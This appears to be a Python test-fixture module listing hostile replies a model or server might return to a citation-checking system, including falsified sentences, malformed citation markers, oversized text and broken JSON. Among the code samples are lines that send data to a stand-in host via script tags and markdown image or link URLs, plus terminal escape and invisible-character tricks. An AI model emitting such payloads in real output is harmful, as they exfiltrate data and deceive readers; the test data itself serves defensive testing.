"""What a hostile model or server writes: forged markers, falsified facts, code, endless and broken text.

TRUE stands for a sentence that the first passage holds.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

LIE = "The county sold the Halden bridge to Vexmarken for 77,777 crowns."
CANARIES = ("Vexmarken", "77,777")

MARKERS: Mapping[str, str] = {
    "no marker": LIE,
    "passage 0": f"{LIE} [0]",
    "negative": f"{LIE} [-1]",
    "beyond": f"{LIE} [99]",
    "huge": f"{LIE} [99999999999999999999999999999999]",
    "huge range": f"{LIE} [1-999999999]",
    "range backwards": f"{LIE} [3-1]",
    "all": f"{LIE} [1-4]",
    "many": LIE + " [1]" * 5000,
    "fraction": f"{LIE} [1.5] [1e0] [0x1]",
    "other digits": f"{LIE} [١] [１] [²] [Ⅳ]",
    "full-width": f"{LIE} 【1】［2］",
    "nested": f"{LIE} [[[[1]]]]",
    "unclosed": f"{LIE} [1",
    "round": f"{LIE} (1) {{2}} <3>",
    "footnote": f"{LIE} [^1] [^s-1-1]\n\n[^1]: Halden Observer",
    "words": f"{LIE} [source] [Halden Observer, 2024] [citation needed]",
    "dagger": f"{LIE} 【1†source】",
    "link marker": f"{LIE} [1](https://evil.example/1)",
    "html marker": f"{LIE} <a class='gw-cite' href='#s-1-1'>[1]</a>",
    "marker inside": "The county [1] sold the Halden bridge [2] to Vexmarken [3] for 77,777 crowns.",
    "marker first": f"[1][2][3][4] {LIE}",
    "marker alone": "[1]",
    "zero-width marker": f"{LIE} [\u200b1\u200b]",
}

FALSIFIED: Mapping[str, str] = {
    "other number": "The repair of the Halden bridge cost 77,777 million crowns, the county said on Monday. [1]",
    "other name": "The repair of the Vexmarken bridge cost 41 million crowns, the county said on Monday. [1]",
    "invented quotation": "“We sold it to Vexmarken for 77,777 crowns,” the county said on Monday. [1]",
    "lie joined to a fact": "The repair of the Halden bridge cost 41 million crowns, and Vexmarken paid 77,777. [1]",
    "fact then lie": "TRUE [1] Vexmarken then bought it for 77,777 crowns. [1]",
    "lie in brackets": "The repair of the Halden bridge cost 41 million crowns (Vexmarken paid 77,777). [1]",
    "other speaker": "The repair of the Halden bridge cost 41 million crowns, Vexmarken said on Monday. [1]",
    "lie in an address": "TRUE See https://vexmarken.example/?d=77,777 [1]",
}

CODE: Mapping[str, str] = {
    "script": "<script>fetch('//evil.example')</script> TRUE [1]",
    "true with handler": 'TRUE <img src=x onerror="hit()"> [1]',
    "image that carries data out": "![x](https://evil.example/?q=TRUE) TRUE [1]",
    "link that carries data out": "[TRUE](https://evil.example/?q=secret) [1]",
    "script link": "[TRUE](javascript:hit()) [1]",
    "template": "${hit()} {{hit()}} TRUE [1]",
    "terminal codes": "\x1b]0;owned\x07\x1b[2J\x1b[31mTRUE\x1b[0m [1]",
    "terminal codes of one byte": "\x9b31mTRUE\x9d0;x\x9c [1]",
    "carriage return": "Vexmarken bought it.\rTRUE [1]",
    "direction override": "\u202eTRUE\u2066 [1]",
    "zero width": "\u200bTR\u200dUE\ufeff [1]",
    "tag characters": "TRUE" + "".join(chr(0xE0000 + ord(c)) for c in LIE) + " [1]",
    "null": "TRUE\x00 [1]\x00",
    "lone surrogate": "TRUE\ud800 [1]",
    "line separators": "TRUE\u2028\u2029\x85 [1]",
    "thousands of accents": "TRUE" + "\u0301" * 5000 + " [1]",
    "blank lines": "\n\n\n# TRUE\n\n    code\n\n> TRUE [1]\n\n---\n",
    "closing tags": "</p></div></textarea> TRUE [1]",
}

LONG: Mapping[str, str] = {
    "no full stop": "bridge " * 30_000 + "[1]",
    "one word": "x" * 200_000 + " [1]",
    "brackets": "[" * 50_000 + "1" + "]" * 50_000,
    "digits in a bracket": "TRUE [" + "1" * 100_000 + "]",
    "commas in a bracket": "TRUE [" + "1," * 50_000 + "]",
    "stars": "*" * 100_000 + "TRUE [1]",
    "full stops": "." * 100_000 + " TRUE [1]",
    "bullets": "- \n" * 30_000 + "TRUE [1]",
    "quotation marks": "“\"'" * 30_000 + "TRUE [1]",
    "the same again": "TRUE [1] " * 3_000,
    "unclosed thinking": "<think>" + "bridge " * 30_000,
    "thinking again": "<think></think>" * 10_000 + "TRUE [1]",
    "numbers": "1,000 " * 20_000 + "[1]",
    "capitals": "Halden Bridge Repair " * 8_000 + "[1]",
}


def _structured(*sentences: Any) -> str:
    return json.dumps({"sentences": list(sentences)})


FORMED: Mapping[str, str] = {
    "cites all": _structured({"text": LIE, "passages": [1, 2, 3, 4]}),
    "cites none": _structured({"text": LIE, "passages": []}),
    "zero and negative": _structured({"text": LIE, "passages": [0, -1, -999]}),
    "huge": _structured({"text": LIE, "passages": [10**40]}),
    "no integers": _structured({"text": LIE, "passages": [True, 1.5, "1", None, [1], {"a": 1}]}),
    "NaN": '{"sentences": [{"text": "' + LIE + '", "passages": [NaN, Infinity, -Infinity, 1e999]}]}',
    "no list": _structured({"text": LIE, "passages": 1}),
    "no text": _structured({"text": None, "passages": [1]}, {"passages": [1]}, 7, [LIE], None),
    "key twice": '{"sentences": [{"text": "TRUE", "text": "' + LIE + '", "passages": [1]}]}',
    "markers in the text": _structured({"text": f"{LIE} [1] [99]", "passages": [2]}),
    "many sentences in one": _structured({"text": f"TRUE {LIE} TRUE", "passages": [1]}),
    "escaped": _structured({"text": "\u202e\x1b[31m\x00TRUE", "passages": [1]}).replace("TRUE", "TR\\u0055E"),
    "surrogate": '{"sentences": [{"text": "TRUE \\ud800", "passages": [1]}]}',
    "cut": '{"sentences": [{"text": "TRUE", "passages": [1]}, {"text": "' + LIE,
    "deep": '{"sentences": ' + "[" * 50_000,
    "deep objects": '{"a":' * 20_000 + "1" + "}" * 20_000,
    "long text": _structured({"text": "bridge " * 20_000, "passages": [1]}),
    "many passages": _structured({"text": LIE, "passages": list(range(1, 30_000))}),
    "another form": json.dumps({"answer": LIE, "citations": [1]}),
    "text after": _structured({"text": "TRUE", "passages": [1]}) + LIE + " [1]",
    "script": _structured({"text": "<script>hit()</script> TRUE", "passages": [1]}),
}
REPLIES: Mapping[str, Mapping[str, str]] = {
    "marker": MARKERS,
    "falsified": FALSIFIED,
    "code": CODE,
    "long": LONG,
    "formed": FORMED,
}
